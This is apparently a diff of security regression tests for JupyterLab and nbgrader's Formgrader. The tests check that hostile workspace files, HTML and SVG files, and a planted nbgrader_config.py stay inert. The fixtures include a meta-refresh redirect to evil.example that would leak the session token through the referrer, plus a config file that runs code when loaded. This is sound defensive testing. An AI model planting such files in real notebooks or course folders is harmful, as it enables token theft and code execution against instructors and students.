@@ -308,19 +308,6 @@ WORKSPACES = {
 }
 
 
-def test_a_workspace_that_was_handed_in_is_a_text(lab, page):
-    """JupyterLab would arrange itself by it: with a script in the place of a page, or as another file."""
-    address, token, folder = lab
-    (folder / "spaces").mkdir()
-    with watched(page) as watch:
-        for kind, content in WORKSPACES.items():
-            (folder / f"spaces/{kind}.jupyterlab-workspace").write_text(json.dumps(content))
-            page.goto(f"{address}/lab/tree/spaces/{kind}.jupyterlab-workspace?token={token}&reset")
-            expect(page.locator(".jp-FileEditor")).to_contain_text('"metadata"')
-            watch.check()
-    assert not (folder / "written.py").exists()
-
-
 LEAVING = (
     '<meta http-equiv="refresh" content="0;url=https://evil.example/left"><meta name="referrer" content="unsafe-url">'
 )
@@ -335,15 +322,29 @@ DRAWING = (
 )
 
 
-def test_a_file_in_a_tab_of_its_own_runs_no_script_and_loads_nothing(lab, page):
-    """The tab's address has the token of whoever opened it.  In JupyterLab, a page that is trusted runs its scripts."""
+def test_a_workspace_that_was_handed_in_is_a_text_and_a_file_in_a_tab_of_its_own_runs_and_loads_nothing(lab, page):
+    """By a workspace JupyterLab would arrange itself: with a script in the place of a page, or as another file.
+
+    The tab's address has the token of whoever opened it.  In JupyterLab, a page that is trusted runs its scripts.
+    """
     address, token, folder = lab
+    for kind, content in WORKSPACES.items():
+        (folder / f"{kind}.jupyterlab-workspace").write_text(json.dumps(content))
+    first, *others = WORKSPACES
+    with watched(page) as watch:
+        page.goto(f"{address}/lab/tree/{first}.jupyterlab-workspace?token={token}&reset")
+        for kind in (first, *others):
+            if kind != first:
+                page.locator(".jp-DirListing-item").get_by_text(f"{kind}.jupyterlab-workspace", exact=True).dblclick()
+            expect(page.locator(".jp-FileEditor:visible")).to_contain_text(
+                f'"id": "{WORKSPACES[kind]["metadata"]["id"]}'
+            )
+            watch.check()
+    assert not (folder / "written.py").exists()
+
     written = {"page.html": f"<!DOCTYPE html>{LEAVING}<h1>{END}</h1>{LOADING}{EVIL}", "drawing.svg": DRAWING}
     for name, text in written.items():
         (folder / name).write_text(text)
-    (folder / "notes.txt").touch()
-    page.goto(f"{address}/lab/tree/notes.txt?token={token}&reset")
-    page.locator(".jp-FileEditor").wait_for()
     reached: list[str] = []  # a request that the page's policy refuses is not sent
     page.context.route("https://evil.example/**", lambda route: (reached.append(route.request.url), route.abort()))
     for name in written:
@@ -461,18 +462,19 @@ def course_of_one(course: Path) -> str:
         return submission.id
 
 
-@pytest.fixture
-def formgrader(tmp_path):
-    """A JupyterLab in the folder of a course with a hostile student: Formgrader's address, the token, a submission."""
-    course = tmp_path / "course"
+@pytest.fixture(scope="module")
+def formgrader(tmp_path_factory):
+    """A JupyterLab of a course with a hostile student: Formgrader's address, the token, a submission, the folder."""
+    base = tmp_path_factory.mktemp("formgrader")
+    course = base / "course"
     number = course_of_one(course)
-    with serving(tmp_path, course) as (address, token):
-        yield f"{address}/formgrader", token, number
+    with serving(base, course) as (address, token):
+        yield f"{address}/formgrader", token, number, course
 
 
 def test_formgrader_shows_hostile_names_and_addresses_as_text(formgrader, page):
     """Its lists, its dialogs, the page for marks by hand, and a link that somebody has made for an instructor."""
-    where, token, number = formgrader
+    where, token, number, _ = formgrader
     watch = Watch(page)
     page.route(
         "https://cdnjs.cloudflare.com/**", lambda route: route.abort()
@@ -509,8 +511,8 @@ def test_formgrader_shows_hostile_names_and_addresses_as_text(formgrader, page):
 
 def test_formgrader_runs_no_configuration_of_another_folder(formgrader, page, tmp_path):
     """As of one that was handed in, which a link or a picture in a notebook would name."""
-    where, token, _ = formgrader
-    folder, ran = tmp_path / "course/submitted/handed", tmp_path / "ran"
+    where, token, _, course = formgrader
+    folder, ran = course / "submitted/handed", tmp_path / "ran"
     folder.mkdir(parents=True)
     (folder / "nbgrader_config.py").write_text(f"open({os.fspath(ran)!r}, 'w').close()\n")
     answer = page.goto(f"{where}?token={token}&path=submitted/handed")
